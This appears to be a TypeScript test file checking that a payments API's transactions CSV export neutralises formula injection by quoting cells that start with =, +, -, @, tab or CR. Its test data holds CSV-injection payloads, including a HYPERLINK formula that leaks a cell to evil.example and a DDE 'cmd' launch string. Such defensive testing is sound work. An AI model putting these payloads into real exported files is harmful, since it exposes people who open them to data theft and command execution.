import { randomUUID } from 'node:crypto';
import { RecordOfflinePaymentDocument } from '@kometpay/schema/merchant';
import { parse } from 'csv-parse/sync';
import { startTestApi, type TestApi, type TestMerchant } from '../support/api.js';
import { Shop } from '../support/shop.js';

const HOSTILE_NAMES = [
  '=HYPERLINK("https://evil.example/?leak="&A1,"Invoice")',
  "+1+cmd|' /C calc'!A0",
  '-2+3+cmd',
  '@SUM(1+1)*cmd',
  '\tTabbed Florist',
  '\rReturned Florist',
];

let t: TestApi;
let merchant: TestMerchant;

beforeAll(async () => {
  t = await startTestApi();
  merchant = await t.createMerchant('Spreadsheet Flowers');
  for (const [index, name] of HOSTILE_NAMES.entries()) {
    const shop = await Shop.open(merchant, t.url, { name, email: `ap${index}@spreadsheet.example` });
    const invoice = await shop.sentInvoice({
      number: index === 0 ? '=1+1' : `SP-${index}`,
      lines: [{ description: 'Roses', quantity: 1, unitAmount: '1250' }],
    });
    await shop.client.request(RecordOfflinePaymentDocument, {
      invoiceId: invoice.id,
      amount: '1250',
      method: 'CHECK',
      reference: '=cmd',
      idempotencyKey: randomUUID(),
    });
  }
});
afterAll(() => t.close());

describe('CSV exports', () => {
  it('write customer-controlled text that starts like a formula as text, and amounts as numbers', async () => {
    const response = await fetch(`${t.url}/reports/transactions.csv`, { headers: { authorization: `Bearer ${merchant.apiKey}` } });
    expect(response.status).toBe(200);
    const [header, ...rows] = parse(await response.text(), { relax_column_count: false }) as string[][];
    const column = (name: string) => header.indexOf(name);
    expect(rows).toHaveLength(HOSTILE_NAMES.length);
    // Names are stored trimmed (a leading tab or CR does not survive createCustomer; csv-export.test.ts covers them).
    const expected = HOSTILE_NAMES.map((name) => name.trim()).map((name) => (/^[=+\-@]/.test(name) ? `'${name}` : name));
    expect(rows.map((row) => row[column('customer')]).sort()).toEqual(expected.sort());
    expect(rows.map((row) => row[column('invoices')])).toContain("'=1+1");
    for (const row of rows) {
      expect(row[column('amount')]).toBe('12.50');
      // No cell of the file starts a formula any more.
      for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    }
  });
});
